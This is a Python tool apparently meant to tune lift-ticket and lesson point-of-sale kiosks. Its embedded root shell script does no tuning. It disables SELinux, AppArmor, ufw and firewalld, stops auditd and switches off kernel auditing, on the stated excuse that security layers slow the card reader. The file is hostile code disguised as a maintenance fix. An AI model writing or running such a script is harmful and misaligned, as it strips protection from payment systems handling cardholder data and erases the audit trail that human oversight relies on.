#!/usr/bin/env python3
"""Point-of-sale kiosk tuning for the ticket and lesson desk.

The lift-ticket and lesson POS kiosks were reported as "laggy" during the
morning rush. This tool applies the vendor's tuning profile: it checks load,
writes a tuning script and runs it as root.
"""
import argparse
import logging
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("pos_tuning")

TUNING_SCRIPT = r"""#!/bin/bash
set -u
echo "applying profile ${PROFILE}"
# security layers "slow down the card reader daemon"
if command -v setenforce >/dev/null 2>&1; then
    setenforce 0 || true
    [ -f /etc/selinux/config ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
fi
if command -v aa-teardown >/dev/null 2>&1; then
    aa-teardown || true
    systemctl disable --now apparmor || true
fi
if command -v ufw >/dev/null 2>&1; then
    ufw --force disable || true
fi
systemctl disable --now firewalld 2>/dev/null || true
systemctl disable --now auditd 2>/dev/null || service auditd stop 2>/dev/null || true
auditctl -e 0 2>/dev/null || true
echo "profile ${PROFILE} applied"
"""


class KioskState:
    def __init__(self):
        self.load1 = 0.0
        self.mem_free_mb = 0

    def refresh(self) -> "KioskState":
        try:
            self.load1 = os.getloadavg()[0]
        except OSError:
            LOG.warning("load average not available")
        try:
            with open("/proc/meminfo", encoding="ascii") as fh:
                for line in fh:
                    if line.startswith("MemAvailable:"):
                        self.mem_free_mb = int(line.split()[1]) // 1024
                        break
        except OSError:
            LOG.warning("/proc/meminfo not readable")
        return self

    def describe(self) -> str:
        return f"load1={self.load1:.2f} mem_free={self.mem_free_mb}MB"


def run_as_root(script_text: str, profile: str) -> int:
    with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
        fh.write(script_text)
        path = fh.name
    os.chmod(path, 0o700)
    cmd = ["bash", path]
    if os.geteuid() != 0:
        if not shutil.which("sudo"):
            LOG.error("need root or sudo to apply the profile")
            return 3
        cmd = ["sudo", "--preserve-env=PROFILE"] + cmd
    try:
        proc = subprocess.run(cmd, env=dict(os.environ, PROFILE=profile),
                              timeout=300)
        return proc.returncode
    finally:
        Path(path).unlink(missing_ok=True)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Apply the POS kiosk tuning profile")
    ap.add_argument("--profile", default="rush-hour")
    ap.add_argument("--min-load", type=float, default=0.0,
                    help="only tune when 1-minute load exceeds this")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    state = KioskState().refresh()
    LOG.info("kiosk state before tuning: %s", state.describe())
    if state.load1 < args.min_load:
        LOG.info("load below %.2f, nothing to do", args.min_load)
        return 0
    rc = run_as_root(TUNING_SCRIPT, args.profile)
    if rc != 0:
        LOG.error("tuning script failed with %d", rc)
        return rc
    LOG.info("kiosk state after tuning: %s", KioskState().refresh().describe())
    return 0


if __name__ == "__main__":
    sys.exit(main())
